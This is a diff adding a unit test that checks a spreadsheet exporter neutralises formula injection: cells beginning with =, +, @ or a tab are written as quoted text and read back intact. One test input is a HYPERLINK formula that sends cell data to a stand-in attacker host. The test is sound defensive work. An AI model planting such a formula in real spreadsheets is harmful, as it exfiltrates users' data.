@@ -37,6 +37,37 @@ describe('import and export files', () => {
     await expect(openTableWriter(file('out.csv'), 'members')).rejects.toThrow(TableFileError);
   });
 
+  it('writes formula-like text of a workbook as text for good (quote prefix, Text format), and reads it back', async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
+    const writer = await openTableWriter(file('formulas.xlsx'), 'members');
+    await writer.write(['name', 'phone', 'note', 'tab', 'plain']);
+    await writer.write([hyperlink, '+886 912 345 678', '@SUM(1,2)', '\t-1+1', '林美玲']);
+    await writer.close();
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(file('formulas.xlsx'));
+    const row = workbook.worksheets[0]!.getRow(2);
+    for (const [column, text] of [
+      [1, hyperlink],
+      [2, '+886 912 345 678'],
+      [3, '@SUM(1,2)'],
+      [4, '\t-1+1'],
+    ] as const) {
+      const cell = row.getCell(column);
+      expect(cell.type, `column ${column}`).toBe(ExcelJS.ValueType.String);
+      expect(cell.value, `column ${column}`).toBe(`'${text}`);
+      expect(cell.numFmt, `column ${column}`).toBe('@');
+    }
+    expect(row.getCell(5).value).toBe('林美玲');
+    // An import of the file takes the text as it was written.
+    expect((await rows('formulas.xlsx'))[1]!.cells).toEqual([
+      hyperlink,
+      '+886 912 345 678',
+      '@SUM(1,2)',
+      '-1+1',
+      '林美玲',
+    ]);
+  });
+
   it('reads Big5 when told, and refuses it as UTF-8', async () => {
     writeFileSync(file('big5.csv'), Buffer.from([0xa9, 0x6d, 0xa6, 0x57, 0x2c, 0x41, 0x0a]));
     await expect(rows('big5.csv')).rejects.toMatchObject({ reason: 'encoding' });
